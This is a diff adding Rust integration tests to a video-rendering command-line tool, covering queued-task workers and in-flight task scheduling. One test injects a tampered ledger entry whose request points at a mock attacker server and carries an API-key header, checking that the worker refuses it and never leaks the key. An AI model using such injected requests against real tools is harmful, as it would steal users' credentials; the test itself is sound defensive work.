@@ -1318,3 +1318,95 @@ fn a_task_still_being_submitted_is_not_adopted_by_another_take() {
     states.sort();
     assert_eq!(states, ["done \"second\"", "submitting null"], "{err}");
 }
+
+/// What is queued in a ledger that came with a repository.
+fn queued_ledger(name: &str, vendor: &Vendor) -> Folder {
+    let folder = stories(name, 1, |_| "a boy walks.");
+    let queued = storyc(&folder, vendor, &["render", ".", "--queue", "--yes"]);
+    assert_eq!(queued.code, 0, "{}", queued.err);
+    assert!(queued.err.contains("queued 1 take in "), "{}", queued.err);
+    folder
+}
+
+#[test]
+fn a_worker_renders_what_is_queued_in_a_folder_once_asked() {
+    let vendor = Vendor::start(1, Faults::default(), 2);
+    let folder = queued_ledger("worker-folder", &vendor);
+    assert_eq!(vendor.tasks(), 0);
+    let listed = storyc(&folder, &vendor, &["takes"]);
+    assert!(listed.out.contains("intent"), "{}", listed.out);
+    let refused = storyc(&folder, &vendor, &["worker", "--once"]);
+    assert_eq!(refused.code, 2, "{}", refused.err);
+    assert!(
+        refused.err.contains("1 queued for about $0.90, and there is no terminal to ask on"),
+        "{}",
+        refused.err
+    );
+    let done = storyc(&folder, &vendor, &["worker", "--once", "--yes", "--poll-interval", "20ms"]);
+    assert_eq!(done.code, 0, "{}", done.err);
+    assert_eq!(states(&folder, &vendor), BTreeMap::from([("done".to_owned(), 1)]));
+    let again = storyc(&folder, &vendor, &["worker", "--once"]);
+    assert_eq!(again.code, 0, "{}", again.err);
+    assert_eq!(vendor.tasks(), 1);
+}
+
+#[test]
+fn a_ledger_cannot_make_a_worker_send_keys_elsewhere() {
+    let (vendor, evil) = (Vendor::start(1, Faults::default(), 2), Scripted::start(|_, _, _| None));
+    let folder = queued_ledger("worker-evil", &vendor);
+    let request = json!({
+        "method": "POST", "url": format!("{}/v1/videos", evil.url), "uploads": [], "cost": null,
+        "headers": { "Content-Type": "application/json", "Authorization": "Bearer ${DASHSCOPE_API_KEY}" },
+        "body": { "prompt": "a boy" },
+    });
+    let statement = format!("UPDATE take SET model = 'minimax-h3@vllm', request = '{request}'");
+    execute_sql(&folder, statement.leak());
+    let run = |more: &[&str]| {
+        let args = [&["worker", "--once", "--yes", "--poll-interval", "20ms"][..], more].concat();
+        command(&folder, &vendor, &args).env_remove("STORYC_BASE_URL").output().unwrap()
+    };
+    let done = run(&[]);
+    let err = String::from_utf8(done.stderr).unwrap();
+    assert_eq!(done.status.code(), Some(4), "{err}");
+    assert!(err.contains("which isn't a host of minimax-h3@vllm"), "{err}");
+    assert_eq!(evil.requests().len(), 0);
+    // Even at a host that the user trusts, a model gets only its own key.
+    let mut child = command(&folder, &vendor, &["worker", "--yes", "--poll-interval", "20ms"])
+        .env("STORYC_BASE_URL", &evil.url)
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let seen = (0..200).any(|_| {
+        std::thread::sleep(Duration::from_millis(20));
+        !evil.requests().is_empty()
+    });
+    child.kill().unwrap();
+    child.wait().unwrap();
+    assert!(seen);
+    for request in evil.requests() {
+        assert!(request.headers.values().all(|value| !value.contains(KEY)), "{:?}", request.headers);
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn tasks_in_flight_do_not_wait_for_clips_that_wait_for_them() {
+    let vendor = Vendor::start(1, Faults::default(), 60);
+    let folder = stories("render-slots", 2, |_| "a boy walks.");
+    let args = ["render", ".", "--yes", "--poll-interval", "20ms", "--rate", "1000000", "--jobs", "2"];
+    let mut child = command(&folder, &vendor, &args).stderr(Stdio::null()).spawn().unwrap();
+    assert!((0..400).any(|_| {
+        std::thread::sleep(Duration::from_millis(20));
+        states(&folder, &vendor).get("running").copied() == Some(2)
+    }));
+    assert!(Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap().success());
+    assert_eq!(child.wait().unwrap().code(), Some(4));
+    // The stories change, so the tasks in flight and the new clips all need the two places.
+    for at in 0..2 {
+        folder.file(&format!("clip-{at:04}.story"), format!("[0-5s] Clip {at}: a girl runs.\n"));
+    }
+    let done = storyc(&folder, &vendor, &args);
+    assert_eq!(done.code, 0, "{}", done.err);
+    assert_eq!(states(&folder, &vendor), BTreeMap::from([("done".to_owned(), 4)]));
+    assert_eq!(vendor.tasks(), 4);
+}
